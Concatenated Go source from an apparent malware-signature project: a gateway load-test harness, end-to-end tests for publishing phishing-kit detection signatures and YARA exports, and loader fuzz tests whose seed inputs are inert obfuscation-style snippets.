			t.Errorf("replica %d watch_updates = %d: v2 did not arrive over the watch stream", i, upd)
		}
	}

	// Version-change invalidation: the first admission at v2 wipes the
	// shared cache and re-pins it to the new matcher version.
	get(fleet[0].front.url.String(), kitDoc)
	if got := cache.Version(); got != v2 {
		t.Errorf("shared cache pinned to v%d after publish, want v%d", got, v2)
	}
	if wipes, _ := cache.Metrics()["wipes"].(int64); wipes < 1 {
		t.Errorf("cache wipes = %d: version change must invalidate wholesale", wipes)
	}
}

func mustParse(t *testing.T, raw string) *url.URL {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return u
}
