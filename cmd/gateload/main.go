// Command gateload drives provider-shaped load through the scanning
// gateway and reports the latency distribution the SLO gates care about.
// Traffic follows the two laws an edge actually sees: request rate rides
// a diurnal sinusoid (trough to peak and back across the run), and
// document popularity is zipf-skewed — a few hot landing pages dominate
// while a long tail trickles.
//
// By default it hosts the full stack in-process (a synthetic-corpus
// origin behind a gateway.Proxy with admission batching) so the numbers
// include proxying, body pooling, and coalescing. Point -target at a
// running kizzlegate to load an external deployment instead; its
// upstream should serve scannable documents under /<n> paths.
//
// Usage:
//
//	gateload [-duration 10s] [-clients 32] [-rps 0] [-zipf 1.5]
//	         [-batchdocs 32] [-target http://gate:8080]
//
// The report is one JSON object on stdout; -rps 0 runs closed-loop at
// maximum speed, -rps N paces an open loop whose aggregate rate peaks
// at N mid-run.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math"
	"math/rand"
	"net"
	"net/http"
	"net/url"
	"os"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"kizzle"
	"kizzle/gateway"
	"kizzle/synth"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "gateload:", err)
		os.Exit(1)
	}
}

// report is the harness's JSON output.
type report struct {
	Mode       string  `json:"mode"` // "in-process" or "external"
	DurationMS float64 `json:"duration_ms"`
	Clients    int     `json:"clients"`
	Requests   int64   `json:"requests"`
	RPS        float64 `json:"rps"`
	Blocked    int64   `json:"blocked"`
	Errors     int64   `json:"errors"`
	P50US      float64 `json:"p50_us"`
	P90US      float64 `json:"p90_us"`
	P99US      float64 `json:"p99_us"`
	P999US     float64 `json:"p999_us"`
	MaxUS      float64 `json:"max_us"`
	// Admitter and Vetter carry the in-process stack's serving counters
	// (absent in external mode, where /metrics on the gate has them).
	Admitter map[string]any `json:"admitter,omitempty"`
	Vetter   map[string]any `json:"vetter,omitempty"`
}

func run(args []string, out io.Writer) error {
	fs := flag.NewFlagSet("gateload", flag.ContinueOnError)
	target := fs.String("target", "", "running gate URL to load (empty: in-process stack)")
	duration := fs.Duration("duration", 10*time.Second, "how long to drive load")
	clients := fs.Int("clients", 32, "concurrent clients")
	peak := fs.Float64("rps", 0, "peak aggregate request rate of the diurnal cycle (0 = closed loop)")
	skew := fs.Float64("zipf", 1.5, "zipf exponent of document popularity (hot-key skew)")
	batchDocs := fs.Int("batchdocs", 32, "in-process admission micro-batch size (0 disables)")
	batchWait := fs.Duration("batchwait", 500*time.Microsecond, "in-process admission window")
	day := fs.Int("day", synth.Date(time.August, 5), "synthetic corpus day")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *clients < 1 {
		return fmt.Errorf("-clients must be positive")
	}

	rep := report{Clients: *clients}
	var base string
	var docCount int
	var admit *gateway.Admitter
	var vetter *gateway.Vetter

	if *target != "" {
		rep.Mode = "external"
		u, err := url.Parse(*target)
		if err != nil || u.Scheme == "" {
			return fmt.Errorf("bad -target %q", *target)
		}
		base = *target
		// The external gate's corpus size is unknown; spread paths over a
		// plausible working set so the zipf tail still exercises it.
		docCount = 512
	} else {
		rep.Mode = "in-process"
		docs, matcher, err := corpusAndMatcher(*day)
		if err != nil {
			return err
		}
		docCount = len(docs)
		origin, err := serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			i, err := strconv.Atoi(r.URL.Path[1:])
			if err != nil || i < 0 || i >= len(docs) {
				http.NotFound(w, r)
				return
			}
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, docs[i])
		}))
		if err != nil {
			return err
		}
		defer origin.close()
		vetter = gateway.NewVetter(matcher)
		proxy := gateway.NewProxy(origin.url, vetter)
		if *batchDocs > 0 {
			admit = gateway.NewAdmitter(vetter, *batchDocs, *batchWait)
			defer admit.Close()
			proxy.UseAdmitter(admit)
		}
		front, err := serve(proxy)
		if err != nil {
			return err
		}
		defer front.close()
		base = front.url.String()
	}

	lats := make([][]time.Duration, *clients)
	var blocked, errs atomic.Int64
	start := time.Now()
	deadline := start.Add(*duration)
	var wg sync.WaitGroup
	for c := 0; c < *clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			rng := rand.New(rand.NewSource(int64(c) + 1))
			zipf := rand.NewZipf(rng, *skew, 1, uint64(docCount-1))
			hc := &http.Client{Timeout: 10 * time.Second}
			mine := make([]time.Duration, 0, 1024)
			for {
				now := time.Now()
				if !now.Before(deadline) {
					break
				}
				if *peak > 0 {
					// Open loop: pace to the diurnal rate at this instant.
					// One full cycle spans the run, starting at the trough.
					frac := now.Sub(start).Seconds() / duration.Seconds()
					rate := *peak * (0.55 - 0.45*math.Cos(2*math.Pi*frac))
					if rate < 1 {
						rate = 1
					}
					time.Sleep(time.Duration(float64(*clients) / rate * float64(time.Second)))
				}
				t0 := time.Now()
				resp, err := hc.Get(base + "/" + strconv.FormatUint(zipf.Uint64(), 10))
				if err != nil {
					errs.Add(1)
					continue
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				mine = append(mine, time.Since(t0))
				if resp.StatusCode == http.StatusForbidden {
					blocked.Add(1)
				} else if resp.StatusCode != http.StatusOK && resp.StatusCode != http.StatusNotFound {
					errs.Add(1)
				}
			}
			lats[c] = mine
		}(c)
	}
	wg.Wait()
	elapsed := time.Since(start)

	var all []time.Duration
	for _, l := range lats {
		all = append(all, l...)
	}
	sort.Slice(all, func(i, j int) bool { return all[i] < all[j] })
	q := func(p float64) float64 {
		if len(all) == 0 {
			return 0
		}
		i := int(p * float64(len(all)))
		if i >= len(all) {
			i = len(all) - 1
		}
		return float64(all[i]) / 1e3
	}
	rep.DurationMS = float64(elapsed) / 1e6
	rep.Requests = int64(len(all))
	rep.RPS = float64(len(all)) / elapsed.Seconds()
	rep.Blocked = blocked.Load()
	rep.Errors = errs.Load()
	rep.P50US, rep.P90US, rep.P99US, rep.P999US = q(0.50), q(0.90), q(0.99), q(0.999)
	rep.MaxUS = q(1)
	if admit != nil {
		rep.Admitter = admit.Metrics()
	}
	if vetter != nil {
		rep.Vetter = vetter.Metrics()
	}
	enc := json.NewEncoder(out)
	enc.SetIndent("", "  ")
	return enc.Encode(rep)
}

// corpusAndMatcher trains a real signature set on one synthetic day and
// returns the day's documents (kit landings and benign pages alike) with
// the compiled matcher — the same stack the gateway benchmarks serve.
func corpusAndMatcher(day int) ([]string, *kizzle.Matcher, error) {
	c := kizzle.New(kizzle.WithSignatureSlack(2))
	for _, fam := range synth.Kits() {
		c.AddKnown(fam.String(), synth.Payload(fam, day-1))
	}
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 60
	stream, err := synth.NewStream(cfg)
	if err != nil {
		return nil, nil, err
	}
	var batch []kizzle.Sample
	var docs []string
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
		docs = append(docs, s.Content)
	}
	res, err := c.Process(batch)
	if err != nil {
		return nil, nil, err
	}
	m, err := kizzle.NewMatcher(res.Signatures)
	if err != nil {
		return nil, nil, err
	}
	return docs, m, nil
}

// server is a loopback HTTP listener serving one handler.
type server struct {
	url *url.URL
	srv *http.Server
	ln  net.Listener
}

func serve(h http.Handler) (*server, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	s := &server{
		srv: &http.Server{Handler: h},
		ln:  ln,
	}
	s.url, _ = url.Parse("http://" + ln.Addr().String())
	go s.srv.Serve(ln)
	return s, nil
}

func (s *server) close() {
	s.srv.Close()
	s.ln.Close()
}
