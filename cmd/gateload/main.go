// Command gateload drives provider-shaped load through the scanning
// gateway and reports the latency distribution the SLO gates care about.
// Traffic follows the two laws an edge actually sees: request rate rides
// a diurnal sinusoid (trough to peak and back across the run), and
// document popularity is zipf-skewed — a few hot landing pages dominate
// while a long tail trickles.
//
// By default it hosts the full stack in-process (a synthetic-corpus
// origin behind a gateway.Proxy with admission batching) so the numbers
// include proxying, body pooling, and coalescing. With -replicas N it
// hosts N independent gateway replicas — each with its own matcher,
// proxy, and admitter, all sharing one fleet verdict cache — behind a
// round-robin front, and reports per-replica latency alongside the
// fleet-wide percentiles. Point -target at a running kizzlegate to load
// an external deployment instead; its upstream should serve scannable
// documents under /<n> paths.
//
// Usage:
//
//	gateload [-duration 10s] [-clients 32] [-rps 0] [-zipf 1.5]
//	         [-replicas 1] [-batchdocs 32] [-target http://gate:8080]
//
// The report is one JSON object on stdout; -rps 0 runs closed-loop at
// maximum speed, -rps N paces an open loop whose aggregate rate peaks
// at N mid-run.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math"
	"math/rand"
	"net"
	"net/http"
	"net/url"
	"os"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"kizzle"
	"kizzle/gateway"
	"kizzle/internal/servemetrics"
	"kizzle/internal/verdictcache"
	"kizzle/synth"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "gateload:", err)
		os.Exit(1)
	}
}

// report is the harness's JSON output.
type report struct {
	Mode       string  `json:"mode"` // "in-process" or "external"
	DurationMS float64 `json:"duration_ms"`
	Clients    int     `json:"clients"`
	Requests   int64   `json:"requests"`
	RPS        float64 `json:"rps"`
	Blocked    int64   `json:"blocked"`
	Errors     int64   `json:"errors"`
	P50US      float64 `json:"p50_us"`
	P90US      float64 `json:"p90_us"`
	P99US      float64 `json:"p99_us"`
	P999US     float64 `json:"p999_us"`
	MaxUS      float64 `json:"max_us"`
	// Admitter and Vetter carry the in-process stack's serving counters
	// (absent in external mode, where /metrics on the gate has them).
	// With -replicas > 1 they aggregate nothing; Fleet carries the
	// per-replica split instead.
	Admitter map[string]any `json:"admitter,omitempty"`
	Vetter   map[string]any `json:"vetter,omitempty"`
	// Replicas, Fleet, and SharedCache describe the in-process fleet:
	// per-replica serving counters plus end-to-end latency summaries, and
	// the shared verdict cache's hit economics.
	Replicas    int              `json:"replicas,omitempty"`
	Fleet       []map[string]any `json:"fleet,omitempty"`
	SharedCache map[string]any   `json:"shared_cache,omitempty"`
}

func run(args []string, out io.Writer) error {
	fs := flag.NewFlagSet("gateload", flag.ContinueOnError)
	target := fs.String("target", "", "running gate URL to load (empty: in-process stack)")
	duration := fs.Duration("duration", 10*time.Second, "how long to drive load")
	clients := fs.Int("clients", 32, "concurrent clients")
	peak := fs.Float64("rps", 0, "peak aggregate request rate of the diurnal cycle (0 = closed loop)")
	skew := fs.Float64("zipf", 1.5, "zipf exponent of document popularity (hot-key skew)")
	batchDocs := fs.Int("batchdocs", 32, "in-process admission micro-batch size (0 disables)")
	batchWait := fs.Duration("batchwait", 500*time.Microsecond, "in-process admission window")
	day := fs.Int("day", synth.Date(time.August, 5), "synthetic corpus day")
	replicas := fs.Int("replicas", 1, "in-process gateway replicas behind the round-robin front")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *clients < 1 {
		return fmt.Errorf("-clients must be positive")
	}
	if *replicas < 1 {
		return fmt.Errorf("-replicas must be positive")
	}
	if *target != "" && *replicas != 1 {
		return fmt.Errorf("-replicas applies to the in-process stack only")
	}

	rep := report{Clients: *clients}
	var bases []string
	var docCount int
	fleet := []*replica{}
	var cache *verdictcache.Cache

	if *target != "" {
		rep.Mode = "external"
		u, err := url.Parse(*target)
		if err != nil || u.Scheme == "" {
			return fmt.Errorf("bad -target %q", *target)
		}
		bases = []string{*target}
		// The external gate's corpus size is unknown; spread paths over a
		// plausible working set so the zipf tail still exercises it.
		docCount = 512
	} else {
		rep.Mode = "in-process"
		docs, err := corpusDocs(*day)
		if err != nil {
			return err
		}
		docCount = len(docs)
		origin, err := serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			i, err := strconv.Atoi(r.URL.Path[1:])
			if err != nil || i < 0 || i >= len(docs) {
				http.NotFound(w, r)
				return
			}
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, docs[i])
		}))
		if err != nil {
			return err
		}
		defer origin.close()
		// One shared verdict cache across the fleet: the cross-replica
		// analogue of the admitter's in-flight coalescing.
		if *replicas > 1 && *batchDocs > 0 {
			cache = verdictcache.New(0)
		}
		// A typed-nil *Cache must not reach the Store interface: an
		// interface holding a nil pointer is not itself nil.
		var store verdictcache.Store
		if cache != nil {
			store = cache
		}
		for i := 0; i < *replicas; i++ {
			r, err := newReplica(*day, origin.url, *batchDocs, *batchWait, store)
			if err != nil {
				return err
			}
			defer r.close()
			fleet = append(fleet, r)
			bases = append(bases, r.front.url.String())
		}
	}

	lats := make([][]time.Duration, *clients)
	var blocked, errs atomic.Int64
	var rr atomic.Int64
	start := time.Now()
	deadline := start.Add(*duration)
	var wg sync.WaitGroup
	for c := 0; c < *clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			rng := rand.New(rand.NewSource(int64(c) + 1))
			zipf := rand.NewZipf(rng, *skew, 1, uint64(docCount-1))
			hc := &http.Client{Timeout: 10 * time.Second}
			mine := make([]time.Duration, 0, 1024)
			for {
				now := time.Now()
				if !now.Before(deadline) {
					break
				}
				if *peak > 0 {
					// Open loop: pace to the diurnal rate at this instant.
					// One full cycle spans the run, starting at the trough.
					frac := now.Sub(start).Seconds() / duration.Seconds()
					rate := *peak * (0.55 - 0.45*math.Cos(2*math.Pi*frac))
					if rate < 1 {
						rate = 1
					}
					time.Sleep(time.Duration(float64(*clients) / rate * float64(time.Second)))
				}
				// Round-robin front: successive requests rotate across the
				// replica fleet, the way a connectionless load balancer would.
				base := bases[int(rr.Add(1))%len(bases)]
				t0 := time.Now()
				resp, err := hc.Get(base + "/" + strconv.FormatUint(zipf.Uint64(), 10))
				if err != nil {
					errs.Add(1)
					continue
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				mine = append(mine, time.Since(t0))
				if resp.StatusCode == http.StatusForbidden {
					blocked.Add(1)
				} else if resp.StatusCode != http.StatusOK && resp.StatusCode != http.StatusNotFound {
					errs.Add(1)
				}
			}
			lats[c] = mine
		}(c)
	}
	wg.Wait()
	elapsed := time.Since(start)

	var all []time.Duration
	for _, l := range lats {
		all = append(all, l...)
	}
	sort.Slice(all, func(i, j int) bool { return all[i] < all[j] })
	q := func(p float64) float64 {
		if len(all) == 0 {
			return 0
		}
		i := int(p * float64(len(all)))
		if i >= len(all) {
			i = len(all) - 1
		}
		return float64(all[i]) / 1e3
	}
	rep.DurationMS = float64(elapsed) / 1e6
	rep.Requests = int64(len(all))
	rep.RPS = float64(len(all)) / elapsed.Seconds()
	rep.Blocked = blocked.Load()
	rep.Errors = errs.Load()
	rep.P50US, rep.P90US, rep.P99US, rep.P999US = q(0.50), q(0.90), q(0.99), q(0.999)
	rep.MaxUS = q(1)
	if len(fleet) == 1 {
		// Single replica: keep the flat report shape earlier tooling reads.
		if fleet[0].admit != nil {
			rep.Admitter = fleet[0].admit.Metrics()
		}
		rep.Vetter = fleet[0].vetter.Metrics()
	} else if len(fleet) > 1 {
		rep.Replicas = len(fleet)
		for i, r := range fleet {
			entry := map[string]any{
				"replica": i,
				"vetter":  r.vetter.Metrics(),
				"latency": r.lat.Summary(),
			}
			if r.admit != nil {
				entry["admitter"] = r.admit.Metrics()
			}
			rep.Fleet = append(rep.Fleet, entry)
		}
	}
	if cache != nil {
		rep.SharedCache = cache.Metrics()
	}
	enc := json.NewEncoder(out)
	enc.SetIndent("", "  ")
	return enc.Encode(rep)
}

// replica is one in-process gateway stack: matcher, vetter, admitter,
// and its loopback front, plus a per-replica latency histogram recorded
// by a middleware in front of the proxy (so the fleet report can show
// replica skew the global percentiles hide).
type replica struct {
	vetter *gateway.Vetter
	admit  *gateway.Admitter
	front  *server
	lat    *servemetrics.Hist
}

func (r *replica) close() {
	r.front.close()
	if r.admit != nil {
		r.admit.Close()
	}
}

// newReplica builds one gateway replica over the shared origin. Each
// replica compiles its own matcher from the day's trained signatures
// (the fleet analogue of N kizzlegate processes deploying the same
// version) and, when store is non-nil, plugs into the fleet-shared
// verdict cache.
func newReplica(day int, origin *url.URL, batchDocs int, batchWait time.Duration, store verdictcache.Store) (*replica, error) {
	sigs, err := daySignatures(day)
	if err != nil {
		return nil, err
	}
	m, err := kizzle.NewMatcher(sigs)
	if err != nil {
		return nil, err
	}
	r := &replica{vetter: gateway.NewVetter(m), lat: &servemetrics.Hist{}}
	r.vetter.SetVersion(1)
	proxy := gateway.NewProxy(origin, r.vetter)
	if batchDocs > 0 {
		r.admit = gateway.NewAdmitter(r.vetter, batchDocs, batchWait)
		if store != nil {
			r.admit.UseSharedStore(store)
		}
		proxy.UseAdmitter(r.admit)
	}
	r.front, err = serve(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		t0 := time.Now()
		proxy.ServeHTTP(w, req)
		r.lat.Observe(time.Since(t0))
	}))
	if err != nil {
		if r.admit != nil {
			r.admit.Close()
		}
		return nil, err
	}
	return r, nil
}

// trained memoizes one day's training run: with -replicas N every
// replica compiles its own matcher, but the signature set behind them is
// trained once — exactly how a real fleet deploys one published version.
var trained struct {
	sync.Mutex
	day  int
	docs []string
	sigs []kizzle.Signature
}

// train compiles a real signature set on one synthetic day and returns
// the day's documents (kit landings and benign pages alike) with the
// trained signatures — the same stack the gateway benchmarks serve.
func train(day int) ([]string, []kizzle.Signature, error) {
	trained.Lock()
	defer trained.Unlock()
	if trained.docs != nil && trained.day == day {
		return trained.docs, trained.sigs, nil
	}
	c := kizzle.New(kizzle.WithSignatureSlack(2))
	for _, fam := range synth.Kits() {
		c.AddKnown(fam.String(), synth.Payload(fam, day-1))
	}
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 60
	stream, err := synth.NewStream(cfg)
	if err != nil {
		return nil, nil, err
	}
	var batch []kizzle.Sample
	var docs []string
	for _, s := range stream.Day(day) {
		batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
		docs = append(docs, s.Content)
	}
	res, err := c.Process(batch)
	if err != nil {
		return nil, nil, err
	}
	trained.day, trained.docs, trained.sigs = day, docs, res.Signatures
	return docs, res.Signatures, nil
}

func corpusDocs(day int) ([]string, error) {
	docs, _, err := train(day)
	return docs, err
}

func daySignatures(day int) ([]kizzle.Signature, error) {
	_, sigs, err := train(day)
	return sigs, err
}

// server is a loopback HTTP listener serving one handler.
type server struct {
	url *url.URL
	srv *http.Server
	ln  net.Listener
}

func serve(h http.Handler) (*server, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	s := &server{
		srv: &http.Server{Handler: h},
		ln:  ln,
	}
	s.url, _ = url.Parse("http://" + ln.Addr().String())
	go s.srv.Serve(ln)
	return s, nil
}

func (s *server) close() {
	s.srv.Close()
	s.ln.Close()
}
