// End-to-end serving-loop test for the second ingest workload: a
// synthetic phishing-kit day flows through the webkit-profile pipeline
// (in-process and over a real-HTTP loopback fleet at 1, 2, and 4
// workers), the published families carry the webkit/ namespace on the
// sigdb wire, a gateway vets the day's traffic against the unpacking
// oracle, and the compiled set exports as a syntactically valid YARA
// ruleset.
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"kizzle"
	"kizzle/synth"
)

// webkitDay is mid-epoch for all four kit families (no version flips
// between day-1 seeding and the day's traffic).
const webkitDay = 35

// writeWebkitCorpus materializes one phishing-kit day as a sigserve
// samples directory plus a known-payload directory seeded with the
// previous day's unpacked kit payloads.
func writeWebkitCorpus(t *testing.T) (samplesDir, knownDir string) {
	t.Helper()
	samplesDir, knownDir = t.TempDir(), t.TempDir()
	cfg := synth.DefaultWebkitConfig()
	cfg.BenignPerDay = 20
	stream, err := synth.NewWebkitStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range stream.Day(webkitDay) {
		if err := os.WriteFile(filepath.Join(samplesDir, s.ID+".html"), []byte(s.Content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range synth.WebkitKits() {
		name := f.String() + ".txt"
		if err := os.WriteFile(filepath.Join(knownDir, name), []byte(synth.WebkitPayload(f, webkitDay-1)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return samplesDir, knownDir
}

// TestWebkitServingLoopEndToEnd drives the full publishing loop for the
// phishing-kit workload and pins the fleet paths to the in-process
// reference, exactly like TestServingLoopEndToEnd does for the JS
// workload.
func TestWebkitServingLoopEndToEnd(t *testing.T) {
	samplesDir, knownDir := writeWebkitCorpus(t)

	// Probe traffic: the day's full mix plus a guaranteed-benign page.
	cfg := synth.DefaultWebkitConfig()
	cfg.BenignPerDay = 20
	stream, err := synth.NewWebkitStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var docs []string
	var malicious []bool
	for _, s := range stream.Day(webkitDay) {
		docs = append(docs, s.Content)
		malicious = append(malicious, s.Family.Malicious())
	}
	docs = append(docs, "<html><body>plain benign page</body></html>")
	malicious = append(malicious, false)

	// The oracle runs the webkit ingest profile and sees the same hidden
	// corpus under the same namespaced labels the publisher derives.
	oracle := kizzle.NewOracle(kizzle.WithProfile("webkit"))
	for _, fam := range synth.WebkitKits() {
		oracle.AddKnown("webkit/"+fam.String(), synth.WebkitPayload(fam, webkitDay-1))
	}

	// In-process reference, with YARA export enabled.
	yaraPath := filepath.Join(t.TempDir(), "kits.yar")
	refSrv := startSigserve(t, samplesDir, knownDir, "-profile", "webkit", "-yara", yaraPath)
	refSnap := fetchSet(t, refSrv.URL)
	refJSON, err := json.Marshal(refSnap.Signatures)
	if err != nil {
		t.Fatal(err)
	}
	if len(refSnap.Signatures) == 0 {
		t.Fatal("webkit compile published no signatures")
	}
	for _, sig := range refSnap.Signatures {
		if !strings.HasPrefix(sig.Family(), "webkit/") {
			t.Fatalf("published family %q is not webkit-namespaced", sig.Family())
		}
	}

	refDecisions := vetDay(t, refSnap, docs)
	blockedMalicious, totalMalicious := 0, 0
	for i, d := range refDecisions {
		if malicious[i] {
			totalMalicious++
		}
		if !d.Blocked {
			continue
		}
		v := oracle.Inspect(docs[i])
		if !v.Detected || v.Family != d.Family {
			t.Fatalf("doc %d: gateway blocked as %q but oracle says detected=%v family=%q",
				i, d.Family, v.Detected, v.Family)
		}
		blockedMalicious++
	}
	if blockedMalicious < totalMalicious*3/4 {
		t.Fatalf("reference loop blocked %d/%d malicious docs", blockedMalicious, totalMalicious)
	}

	// The export written by the publisher must be present, valid, and
	// carry one rule per published signature.
	ruleset, err := os.ReadFile(yaraPath)
	if err != nil {
		t.Fatalf("yara export not written: %v", err)
	}
	if err := kizzle.ValidateYARA(string(ruleset)); err != nil {
		t.Fatalf("published yara export invalid: %v", err)
	}
	if got := strings.Count(string(ruleset), "\nrule "); got != len(refSnap.Signatures) {
		t.Fatalf("yara export has %d rules, want %d", got, len(refSnap.Signatures))
	}
	if !strings.Contains(string(ruleset), "kizzle_webkit_") {
		t.Fatal("yara export carries no webkit-namespaced rule names")
	}

	for _, workers := range []int{1, 2, 4} {
		t.Run(fmt.Sprintf("workers=%d", workers), func(t *testing.T) {
			urls := startWorkerFleet(t, workers)
			srv := startSigserve(t, samplesDir, knownDir,
				"-profile", "webkit",
				"-shards", strings.Join(urls, ","),
				"-cachedir", t.TempDir())
			snap := fetchSet(t, srv.URL)
			gotJSON, err := json.Marshal(snap.Signatures)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(gotJSON, refJSON) {
				t.Fatal("fleet-published webkit signature set diverged from in-process bytes")
			}
			if got := vetDay(t, snap, docs); !reflect.DeepEqual(got, refDecisions) {
				t.Fatal("fleet-backed gateway verdicts diverged from in-process path")
			}
		})
	}
}

// TestMixedWorkloadPublisher runs one sigserve over both corpora
// (-profile js,webkit with per-profile subdirectories): a single
// published version carries bare JS families next to webkit-namespaced
// ones, one gateway vets both kinds of traffic, and /metrics splits the
// counters per workload.
func TestMixedWorkloadPublisher(t *testing.T) {
	jsSamples, jsKnown := writeCorpus(t)
	wkSamples, wkKnown := writeWebkitCorpus(t)
	samplesDir, knownDir := t.TempDir(), t.TempDir()
	for _, dir := range []string{
		filepath.Join(samplesDir, "js"), filepath.Join(samplesDir, "webkit"),
		filepath.Join(knownDir, "js"), filepath.Join(knownDir, "webkit"),
	} {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	copyDir := func(src, dst string) {
		entries, err := os.ReadDir(src)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range entries {
			body, err := os.ReadFile(filepath.Join(src, e.Name()))
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dst, e.Name()), body, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	copyDir(jsSamples, filepath.Join(samplesDir, "js"))
	copyDir(wkSamples, filepath.Join(samplesDir, "webkit"))
	copyDir(jsKnown, filepath.Join(knownDir, "js"))
	copyDir(wkKnown, filepath.Join(knownDir, "webkit"))

	srv := startSigserve(t, samplesDir, knownDir, "-profile", "js,webkit")
	snap := fetchSet(t, srv.URL)
	var bareJS, namespaced int
	for _, sig := range snap.Signatures {
		if strings.HasPrefix(sig.Family(), "webkit/") {
			namespaced++
		} else if !strings.Contains(sig.Family(), "/") {
			bareJS++
		} else {
			t.Fatalf("unexpected family namespace: %q", sig.Family())
		}
	}
	if bareJS == 0 || namespaced == 0 {
		t.Fatalf("mixed publish carries %d bare JS and %d webkit families; want both > 0",
			bareJS, namespaced)
	}

	// One matcher built from the mixed set vets both corpora: JS samples
	// report bare families, phishing samples report webkit/ ones.
	m, _, err := snap.Matcher()
	if err != nil {
		t.Fatal(err)
	}
	wcfg := synth.DefaultWebkitConfig()
	wstream, err := synth.NewWebkitStream(wcfg)
	if err != nil {
		t.Fatal(err)
	}
	var webkitBlocked int
	for _, s := range wstream.MaliciousDay(webkitDay) {
		for _, match := range m.Scan(s.Content) {
			if !strings.HasPrefix(match.Family, "webkit/") {
				t.Fatalf("webkit sample matched non-namespaced family %q", match.Family)
			}
			webkitBlocked++
		}
	}
	if webkitBlocked == 0 {
		t.Fatal("mixed matcher blocked no webkit traffic")
	}

	// /metrics reports both workloads with their own counters.
	resp, err := srv.Client().Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var metrics struct {
		Publisher struct {
			Workloads map[string]struct {
				Documents  int `json:"documents"`
				Clusters   int `json:"clusters"`
				Signatures int `json:"signatures"`
			} `json:"workloads"`
		} `json:"publisher"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&metrics); err != nil {
		t.Fatal(err)
	}
	for _, prof := range []string{"js", "webkit"} {
		w, ok := metrics.Publisher.Workloads[prof]
		if !ok {
			t.Fatalf("/metrics missing workload %q", prof)
		}
		if w.Documents == 0 || w.Signatures == 0 {
			t.Fatalf("workload %q reports documents=%d signatures=%d; want both > 0",
				prof, w.Documents, w.Signatures)
		}
	}
}
