package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"kizzle"
	"kizzle/internal/jstoken"
	"kizzle/internal/unpack"
)

// fuzzFileName coerces an arbitrary fuzz string into a usable file name
// inside dir, so every input exercises the loader instead of bailing on
// os.WriteFile errors.
func fuzzFileName(name, fallback string) string {
	name = filepath.Base(name)
	if name == "" || name == "." || name == ".." || name == string(filepath.Separator) ||
		strings.ContainsRune(name, 0) || len(name) > 64 {
		return fallback
	}
	return name
}

// FuzzKnownDir fuzzes the known-payload directory loader: file names
// become family labels and file contents are winnow-fingerprinted into
// the corpus. Both are operator-supplied but effectively untrusted (known
// payloads are captured malware). The sync must never panic, and its
// digest tracking must be stable: an immediate re-sync of an unchanged
// directory seeds nothing.
func FuzzKnownDir(f *testing.F) {
	f.Add("Angler.txt", []byte("var a = unescape('%61%62');"))
	f.Add("RIG-variant2.txt", []byte("eval(String.fromCharCode(118,97,114))"))
	f.Add("noext", []byte{0xff, 0xfe, 0x00, 0x01})
	f.Add("-.js", []byte(""))
	f.Add("Sweet Orange.txt", []byte("document.write('x');\x00\xc3\x28"))
	f.Fuzz(func(t *testing.T, name string, body []byte) {
		dir := t.TempDir()
		name = fuzzFileName(name, "Seed.txt")
		if err := os.WriteFile(filepath.Join(dir, name), body, 0o644); err != nil {
			t.Skip("unwritable fuzz name")
		}
		w := &workload{
			profile:    "js",
			compiler:   kizzle.New(kizzle.WithCacheBytes(1 << 20)),
			knownDir:   dir,
			knownFiles: make(map[string]knownMeta),
		}
		changed, err := w.syncKnown()
		if err != nil {
			return
		}
		if changed != 1 {
			t.Fatalf("one new file counted as %d changes", changed)
		}
		again, err := w.syncKnown()
		if err != nil || again != 0 {
			t.Fatalf("unchanged dir re-seeded %d changes (err=%v)", again, err)
		}
	})
}

// FuzzSampleDir fuzzes the samples directory loader plus the parsing
// stages every loaded sample is fed into — script extraction, streaming
// lexing, unpacking. Sample directories hold captured grayware, the most
// attacker-controlled bytes in the system; none of it may panic the
// publisher.
func FuzzSampleDir(f *testing.F) {
	f.Add("page.html", []byte("<html><script>var a=1;</script></html>"))
	f.Add("drive-by.js", []byte("eval(unescape('%76%61%72'))"))
	f.Add("trunc.htm", []byte("<script>var x = '"))
